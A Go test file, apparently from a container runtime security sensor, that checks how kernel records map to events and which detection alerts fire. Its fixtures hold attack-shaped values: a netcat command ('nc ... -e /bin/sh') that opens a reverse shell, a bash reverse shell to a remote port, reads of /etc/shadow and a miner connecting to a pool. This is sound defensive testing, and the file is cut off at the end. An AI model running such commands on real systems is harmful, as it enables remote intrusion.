//go:build linux

package sensor

import (
	"fmt"
	"github.com/vigilsec/vigil/internal/sensor/record"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/valyala/fastjson"
	"golang.org/x/sys/unix"

	"github.com/vigilsec/vigil/internal/detect"
	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/ruleset"
	"github.com/vigilsec/vigil/internal/sensor/container"
	"github.com/vigilsec/vigil/internal/sensor/fanotify"
	"github.com/vigilsec/vigil/internal/sensor/proctree"
	"github.com/vigilsec/vigil/internal/source"
	"github.com/vigilsec/vigil/internal/source/sensorevent"
)

// fakeAttr attributes cgroup ids from a table.
type fakeAttr map[uint64]container.Info

func (f fakeAttr) Lookup(cg uint64, pid uint32) container.Info    { return f[cg] }
func (f fakeAttr) CgroupMade(uint64, string, time.Time)           {}
func (f fakeAttr) CgroupJoined(uint64, string, container.Runtime) {}
func (f fakeAttr) CgroupNamed(uint64, string)                     {}
func (f fakeAttr) CgroupRemoved(uint64, time.Time)                {}
func (f fakeAttr) V1Joined(string, container.Runtime)             {}
func (f fakeAttr) LookupV1(p string) container.Info {
	if p == "/docker/"+v1ID {
		return container.Info{CgroupPath: p, Runtime: container.RuntimeDocker, ID: v1ID}
	}
	return container.Info{Runtime: container.RuntimeHost}
}

// v1ID is a Docker container that only the cgroup v1 hierarchies tell.
var v1ID = strings.Repeat("d0", 32)

const (
	cgHost = 1
	cgWeb  = 77
	cgNone = 99 // not resolved
)

var (
	t0        = time.Date(2026, 11, 24, 10, 0, 0, 0, time.UTC)
	webStart  = t0.Add(-time.Hour)
	webMeta   = &container.Metadata{Source: "cri", Name: "web", Image: "registry.example/web:1.4.2", PodName: "web-7f9c", PodNamespace: "production"}
	testUsers = "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nalice:x:1000:1000::/home/alice:/bin/bash\n"
)

// newTestMapper returns a mapper over an empty tree, with the host
// (cgroup 1) and one containerd container (cgroup 77).
func newTestMapper(t testing.TB) *mapper {
	dir := t.TempDir()
	passwd := filepath.Join(dir, "passwd")
	if err := os.WriteFile(passwd, []byte(testUsers), 0o644); err != nil {
		t.Fatal(err)
	}
	attr := fakeAttr{
		cgHost: {CgroupID: cgHost, CgroupPath: "/", Runtime: container.RuntimeHost},
		cgWeb:  {CgroupID: cgWeb, CgroupPath: "/kubepods/pod1/abc", Runtime: container.RuntimeContainerd, ID: "3f5e9a1c7b2d"},
	}
	tree := proctree.New[*prog](proctree.Config{ProcRoot: dir, Grace: 30 * time.Second})
	m := newMapper(tree, attr, newUsers(passwd), "node-1", dir, new(counters))
	m.setHostNS(map[uint64]string{4026531840: "CLONE_NEWNS", 4026531836: "CLONE_NEWPID", 4026531833: "CLONE_NEWNET"})
	m.startOf = func(i container.Info) time.Time {
		if i.ID == "3f5e9a1c7b2d" {
			return webStart
		}
		return time.Time{}
	}
	m.metaOf = func(i container.Info) *container.Metadata {
		if i.ID == "3f5e9a1c7b2d" {
			return webMeta
		}
		return nil
	}
	return m
}

// rec returns a record of process pid in cgroup cg with the header filled.
func rec(kind record.Kind, pid uint32, cg uint64, comm string) record.Record {
	return record.Record{Kind: kind, Time: t0, TGID: pid, TID: pid, PPID: 1, UID: 33, EUID: 33, GID: 33, AUID: record.NoAUID, CgroupID: cg, Comm: comm}
}

// execRec is an exec record of prog with argv, with pipes on stdio and an
// executable older than the container.
func execRec(pid, ppid uint32, cg uint64, filename, exe string, argv ...string) record.Record {
	r := rec(record.KindExec, pid, cg, filepath.Base(filename))
	r.PPID = ppid
	r.Exec = record.Exec{Filename: filename, ExePath: exe, Args: argv, Cwd: "/var/www/html",
		Inode: 4242, MTime: webStart.Add(-24 * time.Hour), CTime: webStart.Add(-24 * time.Hour)}
	for i := range r.Exec.Stdio {
		r.Exec.Stdio[i] = record.FD{Type: record.FDPipe}
	}
	return r
}

func fork(m *mapper, parent, child uint32, cg uint64) *event.Event {
	r := rec(record.KindFork, parent, cg, "x")
	r.Fork.ChildTGID = child
	return m.handle(&r, false)
}

// fields returns the event's fields as text, by name.
func fields(e *event.Event) map[string]string {
	out := map[string]string{}
	for _, f := range event.Fields {
		if f.IsSet(e) {
			out[f.Name] = f.String(e)
		}
	}
	return out
}

// check compares the named fields of e; "" wants the field absent.
func check(t *testing.T, e *event.Event, want map[string]string) {
	t.Helper()
	got := fields(e)
	var keys []string
	for k := range want {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		if event.Lookup(k) == nil {
			t.Fatalf("no field %q in the data model", k)
		}
		if got[k] != want[k] {
			t.Errorf("%s = %q, want %q", k, got[k], want[k])
		}
	}
	if t.Failed() {
		t.Logf("event: %s", event.AppendJSON(nil, e, false))
	}
}

// alerts runs events through a fresh engine with the builtin rules and
// returns the titles of the alerts, sorted.
func alerts(t *testing.T, events ...*event.Event) []string {
	t.Helper()
	g, errs := ruleset.Load(ruleset.Options{}, detect.Config{})
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	var titles []string
	for _, e := range events {
		g.Process(e, func(a *detect.Alert) { titles = append(titles, a.Rule.Title) })
	}
	sort.Strings(titles)
	return titles
}

// web sets up a container process tree: nginx (pid 100) forked a worker
// (101), which runs a shell (102).
func web(t testing.TB, m *mapper) {
	r := execRec(100, 1, cgWeb, "/usr/sbin/nginx", "/usr/sbin/nginx", "nginx", "-g", "daemon off;")
	m.handle(&r, false)
	fork(m, 100, 101, cgWeb)
	fork(m, 101, 102, cgWeb)
	r = execRec(102, 101, cgWeb, "/bin/sh", "/bin/dash", "sh", "-c", "id")
	m.handle(&r, false)
}

func TestMapExecReverseShell(t *testing.T) {
	m := newTestMapper(t)
	web(t, m)
	fork(m, 102, 103, cgWeb)
	r := execRec(103, 102, cgWeb, "/bin/bash", "/usr/bin/bash", "bash", "-i")
	sock := record.FD{Type: record.FDSocket, Family: unix.AF_INET, SockType: unix.SOCK_STREAM,
		Local: netip.MustParseAddrPort("10.40.3.17:51234"), Remote: netip.MustParseAddrPort("185.220.101.47:4444")}
	r.Exec.Stdio = [3]record.FD{sock, sock, sock}
	e := m.handle(&r, false)
	check(t, e, map[string]string{
		"vendor": "linux", "vendor_product": "vigil sensor", "dataset": "Process", "event_name": "execve", "action": "exec",
		"status": "success", "dest": "node-1", "src_user": "www-data", "time": "2026-11-24T10:00:00Z",
		"process_id": "103", "process": "bash -i", "process_path": "/bin/bash", "process_name": "bash", "process_exe": "/usr/bin/bash",
		"process_current_directory": "/var/www/html", "process_user_id": "33", "process_group_id": "33", "process_login_id": "",
		"parent_process_id": "102", "parent_process": "sh -c id", "parent_process_path": "/bin/sh", "parent_process_name": "sh",
		"process_ancestors": "/usr/sbin/nginx /usr/sbin/nginx",
		"process_stdin":     "socket", "process_stdout": "socket", "process_exe_drift": "false", "process_exe_fileless": "false",
		"src_ip": "10.40.3.17", "src_port": "51234", "dest_ip": "185.220.101.47", "dest_port": "4444", "transport": "tcp",
		"container_id": "3f5e9a1c7b2d", "container_runtime": "containerd", "container_name": "web",
		"image": "registry.example/web:1.4.2", "namespace": "production", "workload": "pods/web-7f9c",
	})
	if got, want := alerts(t, e), []string{"Reverse Shell - Shell With a Network Socket as Standard Input or Output"}; !slices.Equal(got, want) {
		t.Errorf("alerts %q, want %q", got, want)
	}

	// The same shell on a Unix socket pair (sshd) is not a reverse shell.
	r.Exec.Stdio[0] = record.FD{Type: record.FDSocket, Family: unix.AF_UNIX, SockType: unix.SOCK_STREAM}
	r.Exec.Stdio[1] = r.Exec.Stdio[0]
	e = m.handle(&r, false)
	check(t, e, map[string]string{"transport": "unix", "dest_ip": "", "process_stdin": "socket"})
	if got := alerts(t, e); len(got) != 0 {
		t.Errorf("alerts on a Unix socket: %q", got)
	}
}

// The event the sensor writes reads back through the sensor event format
// as the same event.
func TestMapRoundTrip(t *testing.T) {
	m := newTestMapper(t)
	web(t, m)
	r := rec(record.KindOpen, 102, cgWeb, "sh")
	r.Ret = 3
	r.File = record.File{Op: record.OpOpen, Path: "/bin/ls", Flags: unix.O_WRONLY | unix.O_TRUNC}
	e := m.handle(&r, false)
	line := event.AppendJSON(nil, e, false)
	got, err := parseSensorEvent(line)
	if err != nil {
		t.Fatalf("%v: %s", err, line)
	}
	if a, b := fields(e), fields(got); !mapsEqual(a, b) {
		t.Errorf("round trip:\n%v\n%v", a, b)
	}
}

func mapsEqual(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	return true
}

func TestMapRecords(t *testing.T) {
	type tc struct {
		name   string
		rec    func() record.Record
		want   map[string]string
		alerts []string
	}
	sockFD := func(kind record.Kind, family, typ uint16, local, remote string) func() record.Record {
		return func() record.Record {
			r := rec(kind, 102, cgWeb, "sh")
			r.Net = record.Net{FD: 3, NewFD: -1, Family: family, SockType: typ}
			if local != "" {
				r.Net.Local = netip.MustParseAddrPort(local)
			}
			if remote != "" {
				r.Net.Remote = netip.MustParseAddrPort(remote)
			}
			return r
		}
	}
	file := func(kind record.Kind, op record.FileOp, path string, flags, mode uint32, ret int64) func() record.Record {
		return func() record.Record {
			r := rec(kind, 102, cgWeb, "sh")
			r.Ret = ret
			r.File = record.File{Op: op, Path: path, Flags: flags, Mode: mode, FD: -100}
			return r
		}
	}
	sys := func(kind record.Kind, nr record.Syscall, comm string, set func(*record.Record)) func() record.Record {
		return func() record.Record {
			r := rec(kind, 102, cgWeb, comm)
			r.Syscall = nr
			r.UID, r.EUID, r.GID = 0, 0, 0
			set(&r)
			return r
		}
	}
	cases := []tc{
		{"create in /usr/local/bin", file(record.KindOpen, record.OpOpen, "/usr/local/bin/kubectl", unix.O_WRONLY|unix.O_CREAT|unix.O_TRUNC, 0o644, 3),
			map[string]string{"dataset": "File", "event_name": "create", "action": "create", "file_path": "/usr/local/bin/kubectl", "file_name": "kubectl", "file_mode": "0644", "status": "success", "process_name": "sh"},
			[]string{"File Written Below a Binary or Library Directory in a Container"}},
		{"write", file(record.KindOpen, record.OpOpen, "/etc/ld.so.preload", unix.O_WRONLY|unix.O_APPEND, 0, 3),
			map[string]string{"event_name": "write", "action": "modify", "file_mode": ""},
			[]string{"Dynamic Linker Preload File Written"}},
		{"read of /etc/shadow", file(record.KindOpen, record.OpOpen, "/etc/shadow", unix.O_RDONLY, 0, 3),
			map[string]string{"event_name": "read", "action": "get", "file_name": "shadow"},
			[]string{"Password Hash or Sudo Policy File Read by an Unexpected Program"}},
		{"failed create", file(record.KindOpen, record.OpOpen, "/bin/x", unix.O_WRONLY|unix.O_CREAT, 0o600, -int64(syscall.EACCES)),
			// An attempt is reported as what it tried, with its failure.
			map[string]string{"event_name": "create", "status": "failure", "msg": "permission denied", "file_mode": "0600"},
			[]string{"File Written Below a Binary or Library Directory in a Container"}},
		{"rename", func() record.Record {
			r := file(record.KindRename, record.OpRename, "/tmp/x", 0, 0, 0)()
			r.File.NewPath = "/usr/bin/ls"
			return r
		}, map[string]string{"dataset": "File", "event_name": "rename", "action": "modify", "file_path": "/usr/bin/ls", "file_name": "ls", "file_source_path": "/tmp/x"},
			[]string{"File Written Below a Binary or Library Directory in a Container"}},
		{"unlink", file(record.KindUnlink, record.OpUnlink, "/var/log/app.log", 0, 0, 0),
			map[string]string{"event_name": "unlink", "action": "delete", "file_path": "/var/log/app.log"}, nil},
		{"rmdir", file(record.KindUnlink, record.OpRmdir, "/tmp/d", 0x200, 0, 0),
			map[string]string{"event_name": "rmdir", "action": "delete"}, nil},
		{"chmod +x in /tmp", file(record.KindChmod, record.OpChmod, "/tmp/.x/miner", 0, 0o755, 0),
			map[string]string{"event_name": "chmod", "action": "modify", "file_mode": "0755", "file_path": "/tmp/.x/miner"},
			[]string{"Execute Permission Set on a File in a Temporary Directory"}},
		{"chmod setuid", file(record.KindChmod, record.OpChmod, "/usr/local/bin/x", 0, 0o104755, 0),
			map[string]string{"file_mode": "04755"}, nil},
		{"connect to a pool", sockFD(record.KindConnect, unix.AF_INET, unix.SOCK_STREAM, "10.40.3.17:40112", "141.94.96.144:3333"),
			map[string]string{"dataset": "Network_Traffic", "event_name": "connect", "action": "connect", "direction": "outbound",
				"src_ip": "10.40.3.17", "src_port": "40112", "dest_ip": "141.94.96.144", "dest_port": "3333", "transport": "tcp"},
			[]string{"Container Connected to a Crypto-Mining Pool Port"}},
		{"connect in progress", func() record.Record {
			r := sockFD(record.KindConnect, unix.AF_INET6, unix.SOCK_STREAM, "", "[fd00:ec2::254]:80")()
			r.Ret = -int64(unix.EINPROGRESS)
			return r
		}, map[string]string{"status": "success", "dest_ip": "fd00:ec2::254", "src_ip": ""},
			[]string{"Cloud Instance Metadata Service Reached From a Container"}},
		{"connect to a Unix socket", func() record.Record {
			r := sockFD(record.KindConnect, unix.AF_UNIX, unix.SOCK_STREAM, "", "")()
			r.Net.UnixPath = "/run/containerd/containerd.sock"
			return r
		}, map[string]string{"transport": "unix", "file_path": "/run/containerd/containerd.sock", "dest_ip": ""}, nil},
		{"accept", sockFD(record.KindAccept, unix.AF_INET, unix.SOCK_STREAM, "10.40.3.17:8080", "10.40.0.9:50000"),
			map[string]string{"event_name": "accept", "action": "accept", "direction": "inbound", "src_ip": "10.40.0.9", "src_port": "50000", "dest_ip": "10.40.3.17", "dest_port": "8080"}, nil},
		{"listen", sockFD(record.KindListen, unix.AF_INET, unix.SOCK_STREAM, "0.0.0.0:8000", ""),
			map[string]string{"event_name": "listen", "action": "listen", "src_ip": "0.0.0.0", "src_port": "8000", "direction": "", "dest_ip": ""}, nil},
		{"bind udp", sockFD(record.KindBind, unix.AF_INET, unix.SOCK_DGRAM, "0.0.0.0:53", ""),
			map[string]string{"event_name": "bind", "transport": "udp", "src_port": "53"}, nil},
		{"dup onto stdin", func() record.Record {
			r := sockFD(record.KindDup, unix.AF_INET, unix.SOCK_STREAM, "10.40.3.17:51234", "185.220.101.47:443")()
			r.Net.NewFD = 0
			r.Comm = "python3"
			return r
		}, map[string]string{"dataset": "Process", "event_name": "dup", "action": "modify", "syscall_args": "newfd=0", "dest_ip": "185.220.101.47", "dest_port": "443", "process_name": "python3"},
			[]string{"Socket Duplicated Onto Standard Input or Output by a Shell or Interpreter"}},
		{"ptrace attach", sys(record.KindPtrace, 101, "inject", func(r *record.Record) { r.Ptrace = record.Ptrace{Request: 16, PID: 1} }),
			map[string]string{"event_name": "ptrace", "action": "modify", "syscall_args": "request=PTRACE_ATTACH target=1"},
			[]string{"Process Attached To or Memory Written With ptrace"}},
		{"memfd_create", sys(record.KindMemfd, 319, "python3", func(r *record.Record) { r.Memfd = record.Memfd{Name: "x", Flags: 1} }),
			map[string]string{"event_name": "memfd_create", "action": "create", "file_name": "x", "syscall_args": "flags=MFD_CLOEXEC"}, nil},
		{"setuid", sys(record.KindSetID, 105, "su", func(r *record.Record) {
			r.SetID = record.SetID{Real: record.NoChange, Effective: 0, Saved: record.NoChange, FS: record.NoChange}
		}), map[string]string{"event_name": "setuid", "syscall_args": "uid=0"}, nil},
		{"setresgid", sys(record.KindSetID, 119, "x", func(r *record.Record) {
			r.SetID = record.SetID{Group: true, Real: 1, Effective: 2, Saved: record.NoChange, FS: record.NoChange}
		}), map[string]string{"event_name": "setresgid", "syscall_args": "rgid=1 egid=2"}, nil},
		{"mount of a host disk", sys(record.KindMount, 165, "mount", func(r *record.Record) {
			r.Mount = record.Mount{Source: "/dev/nvme0n1p1", Target: "/mnt", FSType: "xfs", Flags: 0xC0ED0000 | 2 | 4}
		}), map[string]string{"event_name": "mount", "action": "modify", "file_path": "/mnt", "file_source_path": "/dev/nvme0n1p1", "syscall_args": "fstype=xfs flags=MS_NOSUID|MS_NODEV"},
			[]string{"Host Block Device, Cgroup or Proc Filesystem Mounted in a Container"}},
		{"runc mounts proc", sys(record.KindMount, 165, "runc:[2:INIT]", func(r *record.Record) {
			r.Mount = record.Mount{Source: "proc", Target: "/proc/self/fd/6", FSType: "proc"}
		}), map[string]string{"process_name": "runc:[2:INIT]", "syscall_args": "fstype=proc flags=0"}, nil},
		{"bind mount", sys(record.KindMount, 165, "mount", func(r *record.Record) {
			r.Mount = record.Mount{Source: "/a", Target: "/b", Flags: 4096 | 16384 | 1<<40}
		}), map[string]string{"syscall_args": "flags=MS_BIND|MS_REC|0x10000000000"}, nil},
		{"umount", sys(record.KindUmount, 166, "umount", func(r *record.Record) { r.Mount = record.Mount{Target: "/mnt", Flags: 2} }),
			map[string]string{"event_name": "umount", "file_path": "/mnt", "syscall_args": "flags=MNT_DETACH"}, nil},
		{"chroot", sys(record.KindChroot, 161, "chroot", func(r *record.Record) { r.Chroot = record.Chroot{Path: "/host"} }),
			map[string]string{"event_name": "chroot", "file_path": "/host"}, nil},
		{"unshare", sys(record.KindUnshare, 272, "unshare", func(r *record.Record) { r.Unshare.Flags = 0x00020000 | 0x20000000 }),
			map[string]string{"event_name": "unshare", "syscall_args": "flags=CLONE_NEWNS|CLONE_NEWPID"}, nil},
		{"setns into the host", sys(record.KindSetns, 308, "nsenter", func(r *record.Record) { r.Setns = record.Setns{FD: 3, NSInode: 4026531840} }),
			map[string]string{"event_name": "setns", "syscall_args": "nstype=CLONE_NEWNS target=host"},
			[]string{"Container Process Entered the Host's Namespaces"}},
		{"setns elsewhere", sys(record.KindSetns, 308, "ip", func(r *record.Record) {
			r.Setns = record.Setns{FD: 3, NSType: 0x40000000, NSInode: 4026532999}
		}), map[string]string{"syscall_args": "nstype=CLONE_NEWNET ns=4026532999"}, nil},
		{"finit_module", sys(record.KindModule, 313, "insmod", func(r *record.Record) { r.Module = record.Module{Path: "/tmp/d.ko", FD: 3} }),
			map[string]string{"event_name": "finit_module", "action": "create", "file_path": "/tmp/d.ko", "file_name": "d.ko"},
			[]string{"Kernel Module Loaded From a Container"}},
		{"init_module", sys(record.KindModule, 175, "x", func(r *record.Record) { r.Module = record.Module{FD: -1, Len: 4096} }),
			map[string]string{"event_name": "init_module", "syscall_args": "len=4096"},
			[]string{"Kernel Module Loaded From a Container"}},
		{"bpf kprobe", sys(record.KindBPF, 321, "loader", func(r *record.Record) { r.BPF = record.BPF{Cmd: 5, ProgType: 2, ProgName: "hook"} }),
			map[string]string{"event_name": "bpf", "syscall_args": "cmd=BPF_PROG_LOAD prog_type=kprobe prog_name=hook"},
			[]string{"BPF Program Loaded From a Container"}},
		{"capability check (entry)", sys(record.KindSetns, 308, "nsenter", func(r *record.Record) {
			r.Entry = true
			r.Setns = record.Setns{FD: 3, NSType: 0x20000000, NSInode: 4026531836}
		}), map[string]string{"status": "", "syscall_args": "nstype=CLONE_NEWPID target=host"},
			[]string{"Container Process Entered the Host's Namespaces"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			m := newTestMapper(t)
			web(t, m)
			r := c.rec()
			e := m.handle(&r, false)
			want := map[string]string{"process_id": "102", "process": "sh -c id", "process_path": "/bin/sh",
				"parent_process_id": "101", "parent_process_path": "/usr/sbin/nginx", "container_id": "3f5e9a1c7b2d",
				"process_exe_drift": "", "process_stdin": ""}
			for k, v := range c.want {
				want[k] = v
			}
			check(t, e, want)
			if got := alerts(t, e); !slices.Equal(got, c.alerts) {
				t.Errorf("alerts %q, want %q", got, c.alerts)
			}
		})
	}
}

func TestMapExecDriftAndFileless(t *testing.T) {
	m := newTestMapper(t)
	web(t, m)
	fork(m, 102, 110, cgWeb)
	r := execRec(110, 102, cgWeb, "./kdevtmpfsi", "/tmp/.x/kdevtmpfsi", "./kdevtmpfsi", "-o", "pool:3333")
	r.Exec.Cwd = "/tmp/.x"
	r.Exec.MTime = t0.Add(-time.Minute) // written after the container started
	e := m.handle(&r, false)
	check(t, e, map[string]string{"process_path": "/tmp/.x/kdevtmpfsi", "process_name": "kdevtmpfsi", "process_exe_drift": "true", "process_exe_fileless": "false"})
	want := []string{"Executable Dropped in a Running Container Then Executed", "Program Executed From a Temporary or Shared-Memory Directory"}
	if got := alerts(t, e); !slices.Equal(got, want) {
		t.Errorf("alerts %q, want %q", got, want)
	}

	// A chmod changes ctime: that is drift too.
	r = execRec(110, 102, cgWeb, "/usr/bin/curl", "/usr/bin/curl", "curl")
	r.Exec.CTime = t0.Add(-time.Second)
	check(t, m.handle(&r, false), map[string]string{"process_exe_drift": "true"})

	// A memfd: fileless, and no file to call drift.
	fork(m, 102, 111, cgWeb)
	r = execRec(111, 102, cgWeb, "/proc/self/fd/3", "/memfd: (deleted)", "[kworker/0:2]")
	r.Exec.Memfd, r.Exec.Deleted, r.Exec.Tmpfs = true, true, true
	r.Exec.MTime = t0
	e = m.handle(&r, false)
	check(t, e, map[string]string{"process_path": "/proc/self/fd/3", "process_name": "3", "process_exe": "/memfd: (deleted)",
		"process_exe_fileless": "true", "process_exe_drift": "", "process": "[kworker/0:2]"})
	if got, want := alerts(t, e), []string{"Fileless Execution From a memfd or Deleted File"}; !slices.Equal(got, want) {
		t.Errorf("alerts %q, want %q", got, want)
	}

	// A host process: no drift, runtime host, the login user.
	r = execRec(200, 1, cgHost, "/home/alice/vigil", "/home/alice/vigil", "./vigil", "version")
	r.UID, r.EUID, r.GID, r.AUID = 0, 0, 0, 1000
	r.Exec.MTime = t0
	e = m.handle(&r, false)
	check(t, e, map[string]string{"container_runtime": "host", "container_id": "", "process_exe_drift": "", "src_user": "alice",
		"process_login_id": "1000", "process_user_id": "0"})
	if got := alerts(t, e); len(got) != 0 {
		t.Errorf("alerts %q", got)
	}
}

func TestMapForkExitAndLineage(t *testing.T) {
	m := newTestMapper(t)
	web(t, m)
	e := fork(m, 102, 120, cgWeb)
	check(t, e, map[string]string{"event_name": "fork", "action": "start", "dataset": "Process", "process_id": "120",
		"process": "sh -c id", "process_path": "/bin/sh", "process_exe": "/bin/dash", "parent_process_id": "102", "parent_process_path": "/bin/sh",
		"process_ancestors": "/usr/sbin/nginx /usr/sbin/nginx"})
	r := rec(record.KindExit, 120, cgWeb, "sh")
	r.Exit = record.Exit{Signal: 9}
	e = m.handle(&r, false)
	check(t, e, map[string]string{"event_name": "exit", "action": "stop", "syscall_args": "signal=9", "process_id": "120", "process_path": "/bin/sh"})
	// Its events stay attributed while it is within the grace period.
	r = rec(record.KindExit, 102, cgWeb, "sh")
	m.handle(&r, false)
	r = rec(record.KindOpen, 120, cgWeb, "sh")
	r.File = record.File{Op: record.OpOpen, Path: "/etc/shadow"}
	check(t, m.handle(&r, false), map[string]string{"process_path": "/bin/sh", "parent_process": "sh -c id"})
	// After the grace period the exited process is forgotten, with its
	// program.
	later := rec(record.KindFork, 100, cgWeb, "nginx")
	later.Time = t0.Add(time.Minute)
	later.Fork.ChildTGID = 130
	m.handle(&later, false)
	for _, pid := range []int32{120, 102} {
		if tp, ok := m.tree.Get(pid); ok {
			t.Errorf("pid %d: kept after the grace period: %+v", pid, tp)
		}
	}
	if n := m.stats.events[evFork].Load(); n != 4 {
		t.Errorf("%d fork events counted, want 4", n)
	}
}

func TestMapUnresolvedAndUnknown(t *testing.T) {
	m := newTestMapper(t)
	r := rec(record.KindOpen, 555, cgNone, "app")
	r.File = record.File{Op: record.OpOpen, Path: "/data/x", Flags: unix.O_WRONLY}
	e := m.handle(&r, false)
	if e.Container != nil {
		t.Errorf("unresolved record has container fields: %s", event.AppendJSON(nil, e, false))
	}
	// A process the tree does not know: what the record says.
	check(t, e, map[string]string{"process_id": "555", "process_name": "app", "process_path": "", "parent_process_id": "1", "src_user": "www-data"})
	if m.stats.unresolved.Load() != 1 {
		t.Errorf("unresolved = %d", m.stats.unresolved.Load())
	}
	// Unknown user ids are numbers.
	r.UID = 4321
	check(t, m.handle(&r, false), map[string]string{"src_user": "4321"})
}

func TestMapSelfExec(t *testing.T) {
	m := newTestMapper(t)
	web(t, m)
	// busybox runs an applet by executing itself: the applet's name is
	// placed beside the executable when no process can be looked at.
	r := execRec(102, 101, cgWeb, "/proc/self/exe", "/bin/busybox", "nc", "10.0.0.5", "4444", "-e", "/bin/sh")
	e := m.handle(&r, false)
	check(t, e, map[string]string{"process_path": "/bin/nc", "process_name": "nc", "process_exe": "/bin/busybox"})
	if got, want := alerts(t, e), []string{"Netcat or Socat Executing a Program for a Connection"}; !slices.Equal(got, want) {
		t.Errorf("alerts %q, want %q", got, want)
	}
	r = execRec(102, 101, cgWeb, "/proc/self/exe", "/usr/sbin/runc", "/usr/sbin/runc", "init")
	check(t, m.handle(&r, false), map[string]string{"process_path": "/usr/sbin/runc", "process_name": "runc"})

	// With a live process, the name is looked up in its root and must be
	// the executable: this test's binary, by its own name.
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	var st unix.Stat_t
	if err := unix.Stat(self, &st); err != nil {
		t.Fatal(err)
	}
	var ns unix.Stat_t
	if err := unix.Stat("/proc/self/ns/mnt", &ns); err != nil {
		t.Fatal(err)
	}
	m.procRoot = "/proc"
	r = execRec(uint32(os.Getpid()), uint32(os.Getppid()), cgHost, "/proc/self/exe", self, filepath.Base(self), "-test.run=x")
	r.Exec.Inode = st.Ino
	r.MntNS = uint32(ns.Ino)
	check(t, m.handle(&r, false), map[string]string{"process_path": self})
	r.Exec.Inode = st.Ino + 1 // not that file: the path stays as executed
	check(t, m.handle(&r, false), map[string]string{"process_path": "/proc/self/exe"})
	// A process in another mount namespace is not looked through: the
	// name is placed beside the executable.
	r.MntNS = uint32(ns.Ino) + 1
	check(t, m.handle(&r, false), map[string]string{"process_path": self})
	if !selfExe("/proc/123/exe") || selfExe("/proc/12a/exe") || selfExe("/proc/self/fd/3") {
		t.Error("selfExe")
	}
}

func TestUsers(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "passwd")
	os.WriteFile(p, []byte("# comment\nroot:x:0:0::/:/bin/sh\nbad line\nx:x:notanumber:0::/:\nbob:x:1001:1001::/:/bin/sh\n"), 0o644)
	u := newUsers(p)
	now := time.Now()
	u.now = func() time.Time { return now }
	if u.name(0) != "root" || u.name(1001) != "bob" || u.name(7) != "7" {
		t.Errorf("names: %q %q %q", u.name(0), u.name(1001), u.name(7))
	}
	// A user added later is found once the file is read again.
	os.WriteFile(p, []byte("root:x:0:0::/:/bin/sh\ncarol:x:7:7::/:/bin/sh\n"), 0o644)
	os.Chtimes(p, now.Add(time.Minute), now.Add(time.Minute))
	if u.name(7) != "7" {
		t.Error("read again before the recheck interval")
	}
	now = now.Add(time.Minute)
	if u.name(7) != "carol" {
		t.Errorf("after the change: %q", u.name(7))
	}
	// A missing file names nobody.
	if newUsers(filepath.Join(dir, "none")).name(0) != "0" {
		t.Error("missing passwd")
	}
}

func TestFlags(t *testing.T) {
	for _, c := range []struct {
		v    uint64
		want string
	}{{0, "0"}, {2 | 4, "MS_NOSUID|MS_NODEV"}, {1 << 40, "0x10000000000"}, {1 | 1<<40, "MS_RDONLY|0x10000000000"}} {
		if got := string(appendFlags(nil, c.v, mountFlags)); got != c.want {
			t.Errorf("%#x: %q, want %q", c.v, got, c.want)
		}
	}
	if bpfProgType(29) != "lsm" || bpfProgType(999) != "999" {
		t.Error("bpfProgType")
	}
	if !strings.HasPrefix(nsTypeName(1), "0x") {
		t.Error("nsTypeName")
	}
}

func parseSensorEvent(line []byte) (*event.Event, error) {
	v, err := fastjson.ParseBytes(line)
	if err != nil {
		return nil, err
	}
	f := sensorevent.New()
	if !f.Detect(v) {
		return nil, fmt.Errorf("not a sensor event")
	}
	var got *event.Event
	err = f.Parse(&source.Record{JSON: v}, func(e *event.Event) { got = e })
	return got, err
}

// TestMapGuessedPath: a file watcher's record whose process it could not
// place carries the container's path and the host's; the process's
// attribution decides.
func TestMapGuessedPath(t *testing.T) {
	m := newTestMapper(t)
	web(t, m)
	host := execRec(200, 1, cgHost, "/usr/bin/cp", "/usr/bin/cp", "cp", "x", "/var/lib/c/rootfs/bin/x")
	m.handle(&host, false)
	for _, tc := range []struct {
		pid        uint32
		path, from string
	}{
		{102, "/bin/x", "/bin/x.tmp"},                                   // the container's shell: its view
		{200, "/var/lib/c/rootfs/bin/x", "/var/lib/c/rootfs/bin/x.tmp"}, // a host process: the host's
	} {
		r := record.Record{Kind: record.KindRename, Time: t0, TGID: tc.pid, File: record.File{Op: record.OpRename, FD: -1,
			Path: "/bin/x.tmp", NewPath: "/bin/x", HostPath: "/var/lib/c/rootfs/bin/x.tmp", HostNewPath: "/var/lib/c/rootfs/bin/x"}}
		check(t, m.handle(&r, true), map[string]string{"file_path": tc.path, "file_source_path": tc.from})
	}
}

// TestMapBeforeExec: a file watcher's record of a write that came before
// its process's exec (read with it) is the old program's.
func TestMapBeforeExec(t *testing.T) {
	m := newTestMapper(t)
	web(t, m) // 102 runs sh -c id
	r := execRec(102, 101, cgWeb, "/usr/bin/id", "/usr/bin/id", "id")
	r.Time = t0.Add(time.Millisecond)
	m.handle(&r, false)
	for _, tc := range []struct {
		before bool
		at     time.Duration
		want   string
	}{
		{true, 3 * time.Millisecond, "sh -c id"}, // read 2 ms after the exec, before it in the queue
		{false, 3 * time.Millisecond, "id"},      // after it
		{true, 5 * time.Second, "id"},            // an exec too long ago to be the one
	} {
		w := record.Record{Kind: record.KindOpen, Time: t0.Add(tc.at), TGID: 102, BeforeExec: tc.before,
			File: record.File{Op: record.OpOpen, FD: -1, Path: "/etc/motd", Flags: unix.O_WRONLY}}
		check(t, m.handle(&w, true), map[string]string{"process": tc.want, "file_path": "/etc/motd"})
	}
}

// TestMapV1Attribution: a container that only the cgroup v1 hierarchies
// tell (its cgroup v2 is the host's) is attributed by the v1 path its
// exec reports, and so are its children.
func TestMapV1Attribution(t *testing.T) {
	m := newTestMapper(t)
	r := execRec(300, 1, cgHost, "/bin/sh", "/bin/busybox", "sh")
